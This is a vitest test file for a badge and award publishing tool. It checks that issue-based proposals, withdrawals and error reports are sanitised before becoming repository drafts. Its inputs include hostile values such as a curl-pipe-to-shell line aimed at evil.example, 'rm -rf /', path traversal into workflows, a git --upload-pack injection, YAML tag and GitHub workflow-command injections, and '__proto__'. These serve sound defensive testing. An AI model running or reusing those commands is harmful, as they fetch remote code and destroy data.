import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { parse } from 'yaml'
import { landing } from '../../../scripts/delivery/landing.ts'
import { proposalOf } from '../../../scripts/proposals/proposal.ts'
import { readContent } from '../../../src/intake/index.ts'
import { AWARD, repository, SITE } from '../../cli/repositories.ts'
import { BADGE, filledIn } from './filled.ts'

const TODAY = '2026-11-24'
const NOW = new Date(`${TODAY}T10:15:03Z`)
const FILE = `content/awards/2026/03/${AWARD}.yaml`
const COHORT = 'content/awards/2026/03/cohort.yaml'
const COHORT_AWARD = 'cccccccccccccccc'

/** A repository with an award in a file of its own and a cohort of one. */
function contentRepository(): string {
  const root = repository()
  // A micro-credential can be proposed only where it is known in which country it is issued.
  const issuer = join(root, 'content/issuer/index.md')
  writeFileSync(issuer, readFileSync(issuer, 'utf8').replace('---\n', '---\naddress: { countryCode: GB }\n'))
  const { recipient } = parse(readFileSync(join(root, FILE), 'utf8'))
  const identities = [{ ...recipient.identities[0], salt: '0123456789abcdef0123456789abcdef' }]
  const one = `  - id: ${COHORT_AWARD}\n    recipient: ${JSON.stringify({ identities })}\n`
  writeFileSync(join(root, COHORT), `badge: first-aid # the course\nawardedOn: 2026-03-02\nrecipients:\n${one}`)
  return root
}

function proposed(body: string, root = contentRepository()) {
  const intake = readContent(root, { today: TODAY })
  if (!intake.ok) throw new Error(JSON.stringify(intake.problems))
  return proposalOf({ number: 12, body }, { root, register: intake.register, today: TODAY })
}

/** The draft of an issue, and the register once its files lie in the repository. */
function landed(body: string) {
  const root = contentRepository()
  const proposal = proposed(body, root)
  if ('answer' in proposal) throw new Error(proposal.answer)
  const checked = landing({ root, now: () => NOW }, proposal.draft.changes)
  if (!checked.ok) throw new Error(JSON.stringify(checked.problems))
  return { ...proposal.draft, register: checked.register, root }
}

const answerTo = (body: string) => {
  const proposal = proposed(body)
  return 'answer' in proposal ? proposal.answer : undefined
}

describe('a proposed badge', () => {
  it('becomes the draft of a badge class, with all that was answered', () => {
    const { register, changes, title } = landed(filledIn('badge', BADGE))
    const slug = 'writing-minutes-what-was-decided-why'
    expect(changes.map(({ file }) => file)).toEqual([
      `content/badges/${slug}/index.md`,
      `content/badges/${slug}/badge.svg`,
    ])
    expect(title).toBe(`Propose the badge class ${slug}`)
    expect(register.badgeClasses.get(slug)).toMatchObject({
      name: BADGE.name,
      description: BADGE.description,
      type: 'badge',
      skills: ['writing', 'note taking'],
      validFor: 'P2Y',
      assessment: { kind: 'case-study', description: BADGE.assessment },
      criteria: BADGE.criteria,
    })
  })

  it.each([
    ['../../.github/workflows/evil', 'github-workflows-evil'],
    ['$(curl evil.example | sh) `id` ; rm -rf /', 'curl-evil-example-sh-id-rm-rf'],
    ['--upload-pack=touch /tmp/x', 'upload-pack-touch-tmp-x'],
    ['Évaluer, ça s’apprend', 'evaluer-ca-s-apprend'],
    ['数据素养', 'proposal-12'],
    ['Con', 'proposal-12'],
    ['x'.repeat(120), 'x'.repeat(64)],
  ])('gets a folder whose name is made by us: of %j', (name, slug) => {
    const { register, title, notes } = landed(filledIn('badge', { ...BADGE, name }))
    expect(title).toBe(`Propose the badge class ${slug}`)
    expect(notes).not.toContain(name)
    expect(register.badgeClasses.get(slug)?.name).toBe(name)
  })

  it.each([
    'x\n---\n\nname: Forged',
    '"\ntype: micro-credential',
    "'; evidenceRequired: true",
    '| literal: &anchor *alias !!js/function',
    '{ a: b }',
    '::set-output name=x::y',
    '::stop-commands::x',
    '# @everyone closes #1',
    '---js\nprocess.exit()\n---',
  ])('says in YAML what was answered, and nothing else: %j', (text) => {
    const answers = { ...BADGE, description: text, assessment: text, criteria: text }
    const { register, notes } = landed(filledIn('badge', answers))
    const badge = register.badgeClasses.get('writing-minutes-what-was-decided-why')
    expect(badge).toMatchObject({ type: 'badge', description: text, assessment: { description: text }, criteria: text })
    expect(badge).not.toHaveProperty('evidenceRequired')
    expect(notes).not.toContain(text)
  })

  it('of a micro-credential needs what Europe asks for, and is a draft that passes the check', () => {
    const micro = { ...BADGE, type: 'A micro-credential' }
    const unsaid = answerTo(filledIn('badge', { ...micro, hours: 'many' }))
    for (const label of ['Learning outcomes', 'How one takes part', 'Quality assurance'])
      expect(unsaid).toContain(`“${label}” has no answer, and a micro-credential needs one.`)
    expect(unsaid).toContain('“Hours of work” must be a number above 0')
    const learning = {
      outcomes: '- Takes minutes.\n\nKeeps them short.',
      hours: '25',
      participation: 'Work based',
      quality: 'Both',
    }
    const { register } = landed(filledIn('badge', { ...micro, ...learning }))
    expect(register.badgeClasses.get('writing-minutes-what-was-decided-why')).toMatchObject({
      type: 'micro-credential',
      outcomes: ['Takes minutes.', 'Keeps them short.'],
      workload: { hours: 25 },
      participation: 'work-based',
      qualityAssurance: { kind: 'both' },
      evidenceRequired: true,
    })
  })

  it('is answered when there is a badge of that name', () => {
    expect(answerTo(filledIn('badge', { ...BADGE, name: 'FIRST AID' }))).toContain('a badge of this name already')
  })
})

describe('a request to withdraw an award', () => {
  const ask = (answers: object = {}) =>
    filledIn('withdrawal', { award: AWARD, change: 'Revoke it for good', reason: 'It was copied.', ...answers })

  it('becomes a status change of today with its reason, after all that stands there', () => {
    const before = readFileSync(`tests/sites/one-award/${FILE}`, 'utf8')
    const { changes, title, notes } = landed(ask())
    const added = `status:\n  - change: revoke\n    on: ${TODAY}\n    reason: It was copied.\n`
    expect(changes).toEqual([{ file: FILE, text: before + added }])
    expect(title).toBe(`Revoke ${AWARD}`)
    expect(notes).toContain('```text\nIt was copied.\n```')
  })

  it('finds a recipient of a cohort by the address of the page, and keeps what others wrote', () => {
    const change = 'Suspend it until the matter is settled'
    const { changes, register, title } = landed(ask({ award: `${SITE}awards/${COHORT_AWARD}/`, change }))
    expect(title).toBe(`Suspend ${COHORT_AWARD}`)
    expect(changes[0]!.text).toContain('# the course\n')
    const status = [{ change: 'suspend', on: TODAY, reason: 'It was copied.' }]
    expect(register.awards.get(COHORT_AWARD)?.status).toEqual(status)
    expect(register.awards.get(AWARD)?.status).toBeUndefined()
  })

  it.each(['"; rm -rf /', 'x: y # z', '- a', '@everyone closes #1', "it's `id`", '::error::x', '````'])(
    'states a reason in YAML as it was given, and to who approves as code: %j',
    (reason) => {
      const { register, notes, title } = landed(ask({ reason }))
      expect(register.awards.get(AWARD)?.status).toEqual([{ change: 'revoke', on: TODAY, reason }])
      const [opening, ...more] = notes.split('\n').filter((line) => line.startsWith('```') && line !== reason)
      expect(more).toEqual([opening!.replace('text', '')])
      expect(opening!.length - 4).toBeGreaterThan(/^`*/.exec(reason)![0].length)
      expect(title).toBe(`Revoke ${AWARD}`)
    },
  )

  it.each(['zzzzzzzzzzzzzzzz', `https://evil.example/awards/${AWARD}/`, '../../site', '__proto__'])(
    'is answered when no award is named, and told of no near one: %s',
    (award) => {
      const answer = answerTo(ask({ award }))
      expect(answer).toContain('is not the id or the address of an award')
      expect(answer).not.toContain(AWARD)
    },
  )
})

describe('a report of an error', () => {
  const report = (answers: object = {}) =>
    filledIn('error', { award: AWARD, part: 'The evidence', error: '@everyone [x](https://evil.example)', ...answers })

  it('is answered with the file and both ways to mend it, and with no word of its own', () => {
    const answer = answerTo(report())
    expect(answer).toContain(`\`${FILE}\``)
    expect(answer).toContain(`correct ${AWARD} --reason "what was wrong" --set evidence=value`)
    expect(answer).toContain('edit the file, and add at its end')
    expect(answer).not.toMatch(/evil|@/)
  })

  it('says where in a cohort a correction belongs', () => {
    expect(answerTo(report({ award: COHORT_AWARD }))).toContain('add to the recipient with this id')
  })

  it('asks nobody for the right name in public', () => {
    expect(answerTo(report({ part: 'The name of the learner' }))).toContain('does not belong in this issue')
  })

  it('is answered when no award is named', () => {
    expect(answerTo(report({ award: 'nobody' }))).toContain('is not the id or the address of an award')
  })
})
